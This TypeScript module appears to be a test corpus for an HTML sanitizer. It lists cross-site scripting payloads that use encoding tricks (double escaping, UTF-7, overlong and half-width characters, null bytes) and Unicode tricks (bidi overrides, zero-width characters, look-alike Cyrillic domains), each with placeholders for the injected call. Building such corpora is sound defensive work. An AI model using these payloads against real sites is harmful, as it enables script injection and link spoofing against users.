import { category } from './payload';
import { HTML5SEC, JSOUP, OWASP, own, PORTSWIGGER, TROJAN_SOURCE, UNICODE_36 } from './sources';

/** The same in other spellings: references, look-alike letters, bytes that some decoders swallow. */
export const ENCODINGS = category('encodings', [
  [
    OWASP,
    {
      'twice-escaped': '&amp;lt;img src=x: onerror={{CALL}}&amp;gt;',
      'escaped-once': '&lt;img src=x: onerror={{CALL}}&gt;',
      'escaped-script': '&lt;script&gt;{{CALL}}&lt;/script&gt;',
      'no-semicolons': '&LTimg src=x: onerror={{CALL}}&GT',
      'long-decimal': '&#0000060img src=x: onerror={{CALL}}&#0000062',
      'long-hex': '&#x000003cimg src=x: onerror={{CALL}}&#x000003e',
      'hex-all': '{{HEX:<img src=x: onerror={{CALL}}>}}',
      'decimal-all': '{{DECIMAL:<img src=x: onerror={{CALL}}>}}',
      'percent-all': '{{PERCENT:<img src=x: onerror={{CALL}}>}}',
      'js-escapes': '{{UNICODE:<img src=x: onerror={{CALL}}>}}',
      'us-ascii-high': '\u00bcscript\u00be{{CALL}}\u00bc/script\u00be',
      'utf-7': '+ADw-img src+AD0-x: onerror+AD0-{{CALL}}+AD4-',
      'css-hex': '<p style="\\62 ackground:\\75 rl({{URL}})">a</p>',
    },
  ],
  [
    HTML5SEC,
    {
      'named-less': '&lt;&sol;p&gt;&lt;img src&equals;x: onerror&equals;{{CALL}}&gt;',
      'reference-in-name': '<i&#109;g src=x: onerror={{CALL}}>',
      'reference-in-attribute-name': '<img src=x: &#111;nerror={{CALL}} onerror={{CALL}}>',
      'null-in-tag': '<im\u0000g src=x: onerror={{CALL}}><img\u0000 src=x: onerror={{CALL}}>',
      'null-in-value': '<img src="x:" onerror="\u0000{{CALL}}">',
      'null-reference': '<img src=x: onerror="&#0;{{CALL}}"><img src=x: onerror="&#x00;{{CALL}}">',
      'windows-references': '<a title="&#128;&#150;&#x9f;" href="&#x80;javascript:{{CALL}}">a</a>',
      'surrogate-reference': '<img alt="&#xd800;&#xdfff;&#x110000;" src=x: onerror={{CALL}}>',
      'lone-surrogate': '<img alt="\ud800" src=x: onerror={{CALL}}>\udfff',
      overlong: '\u00c0\u00bcimg src=x: onerror={{CALL}}\u00c0\u00be',
      'half-width': '\uff1cimg src=x: onerror={{CALL}}\uff1e',
      'iso-2022': '\u001b$B<img src=x: onerror={{CALL}}>\u001b(B',
      'shift-jis-lead': '<a title="\u0081">a</a><a title=" onmouseover={{CALL}} \u0081">b</a>',
    },
  ],
  [
    PORTSWIGGER,
    {
      separators: '<img\tsrc=x:\nonerror\r=\f{{CALL}}>',
      'vertical-tab': '<img\u000bsrc=x: onerror={{CALL}}><img src=x:\u000bonerror={{CALL}}>',
      'form-feed-name': '<img\f/src=x:\f/onerror={{CALL}}>',
      'no-break-in-tag': '<img\u00a0src=x: onerror={{CALL}}>',
      'slashes-for-spaces': '<img////src=x:////onerror={{CALL}}>',
      'case-folding': '<\u017fcript>{{CALL}}</\u017fcript><\u0130mg src=x: onerror={{CALL}}>',
      'long-s-attribute': '<p on\u017felectstart={{CALL}} autofocu\u017f>a</p>',
      'combining-after-less': '<\u0338img src=x: onerror={{CALL}}>\u003e\u0338',
    },
  ],
  [
    own(JSOUP),
    {
      'mixed-references': '<a href="&#106;&#x61;va&#115;cript&colon;{{CALL}}">a</a>',
      'reference-tab-newline': '<a href="j&Tab;a&NewLine;v&#10;a&#9;script:{{CALL}}">a</a>',
      'ambiguous-ampersand': '<a href="?a=1&ltimg=2&notit;&copy=3" onclick={{CALL}}>a</a>',
    },
  ],
]);

/** Characters that turn, hide or resemble others; a name that reads as one thing and is another. */
export const UNICODE_CONTROLS = category('unicode', [
  [
    TROJAN_SOURCE,
    {
      override: 'safe\u202e>{{CALL}}=rorreno :x=crs gmi<\u202c text',
      isolate: '\u2066<img src=x: onerror={{CALL}}>\u2069 \u2067text\u2069',
      embedding: '\u202bimg\u202c<b onclick={{CALL}}>\u202atext\u202c</b>',
      'many-overrides': `${'\u202e'.repeat(60)}<img src=x: onerror={{CALL}}>${'\u202d'.repeat(60)}`,
      'in-link':
        '<a href="https://example.org/\u202egro.knab\u202c">https://bank.org</a><a href="\u202ejavascript:{{CALL}}">a</a>',
      'in-code': '<pre><code>/*\u202e } \u2066if (admin)\u2069 \u2066 {{CALL}} */</code></pre>',
      'in-alt': '<img alt="\u202e\u2066text\u2069" src=x: onerror={{CALL}}>',
    },
  ],
  [
    UNICODE_36,
    {
      'zero-width-tags': '<\u200bimg src=x: onerror={{CALL}}><img\u200b src=x: onerror={{CALL}}>',
      'zero-width-handlers': '<img src=x: on\u200derror={{CALL}} \u200bonerror={{CALL}}>',
      'cyrillic-address':
        '<a href="https://\u0430pple.com/">apple.com</a><a href="j\u0430v\u0430script:{{CALL}}">a</a>',
      'variation-selectors': '<a href="java\ufe0fscript:{{CALL}}">a\ufe0f</a>',
      'tag-characters':
        '<p>a\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}</p><b onclick={{CALL}}>b</b>',
      noncharacters: '<p title="\ufffe\uffff\ufdd0" onclick={{CALL}}>\ufffe{{CALL}}\uffff</p>',
      'combining-flood': `<p onclick={{CALL}}>a${'\u0301\u0327\u0489'.repeat(120)}</p>`,
      'ideographic-space': '<img\u3000src=x: onerror={{CALL}}><a href="\u3000javascript:{{CALL}}">a</a>',
      'bidi-marks-in-scheme': '<a href="\u200ejava\u200fscript\u061c:{{CALL}}">a</a>',
      'line-separators': '<a href="java\u2028script\u2029:{{CALL}}" onclick="\u2028{{CALL}}">a</a>',
      'full-width-scheme': '<a href="\uff4aavascript\uff1a{{CALL}}">a</a>',
      'interlinear-annotation': '\ufff9<img src=x: onerror={{CALL}}>\ufffatext\ufffb',
      'normalises-to-less': '<p>\ufe64img src=x: onerror={{CALL}}\ufe65 \u226e</p>',
      ligatures: '<img src=x: o\ufb01error={{CALL}}><\ufb06yle>@import "{{URL}}"</\ufb06yle>',
    },
  ],
]);
